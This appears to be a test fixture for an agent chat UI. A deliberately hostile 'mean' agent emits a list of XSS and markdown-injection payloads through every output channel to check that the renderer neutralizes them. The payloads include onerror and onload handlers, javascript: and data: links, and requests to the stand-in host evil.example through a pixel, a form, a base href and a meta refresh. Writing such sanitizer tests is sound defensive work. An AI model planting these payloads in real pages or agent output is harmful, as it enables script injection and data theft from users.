import { AgentError } from "@holodeck/agui";
import type { AgentFunction, AgentMap } from "@holodeck/agui";

/** What an agent says that wants to run something in the page of its reader. */
export const tricks: readonly string[] = [
  `<img src=x onerror="pwned()">`,
  `<script>pwned()</script>`,
  `<svg onload="pwned()"><a xlink:href="javascript:pwned()"><text>svg</text></a></svg>`,
  `<iframe srcdoc="<script>parent.pwned()</script>"></iframe>`,
  `<a href="javascript:pwned()">html link</a>`,
  `[link](javascript:pwned())`,
  `[link](JaVaScRiPt&colon;pwned\\(\\))`,
  `[link](data:text/html,<script>pwned()</script>)`,
  `[link](vbscript:pwned())`,
  `<javascript:pwned()>`,
  `![image](javascript:pwned())`,
  `![image](https://evil.example/pixel.png)`,
  `![image](data:image/svg+xml,<svg onload=pwned()>)`,
  `![x](x"onerror="pwned())`,
  `[a]: javascript:pwned()\n\n[a]`,
  `\`\`\`"><img src=x onerror=pwned()>\n<img src=x onerror=pwned()>\n\`\`\``,
  `<style>body { background: url(https://evil.example/) }</style>`,
  `<form action="https://evil.example/"><input name=q><button>go</button></form>`,
  `<math><mi xlink:href="javascript:pwned()">math</mi></math>`,
  `<p style="position:fixed;inset:0">over it all</p>`,
  `<input autofocus onfocus=pwned()>`,
  `<details open ontoggle=pwned()>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `| a |\n|---|\n| <img src=x onerror=pwned()> |`,
  `<noscript><p title="</noscript><img src=x onerror=pwned()>">`,
];

const html = `<img src=x onerror="pwned()"><script>pwned()</script>`;

/** Says it in every place where an agent can say something. */
const mean: AgentFunction = async (_input, { emit, state }) => {
  for (const trick of tricks) await emit.text(`${trick}\n\n`);
  await emit.reasoning(html);
  const call = emit.toolCall(html, { [html]: html });
  await emit.toolResult(call, html);
  const other = emit.toolCall("not_json", html);
  await emit.toolResult(other, [{ type: "text", text: html }]);
  await emit.step(html, () => undefined);
  emit.activity(html, { title: html, status: html });
  await emit.subagent(html, (sub) => sub.text(html));
  await state.set({ [html]: html, plan: { title: html, steps: [{ title: html, status: html }] } });
  await emit.custom("suggested_questions", [html]);
  await emit.custom(html, html);
};

const failing: AgentFunction = async (_input, { emit }) => {
  await emit.text("Wait for it.");
  throw new AgentError("agent-error", html);
};

const asking: AgentFunction = async (_input, { emit }) => {
  await emit.text("Now.");
  emit.interrupt({ reason: html, message: html });
};

export const agent: AgentMap = {
  mean: { agent: mean, name: html, description: html, suggestions: [html] },
  failing,
  asking,
};
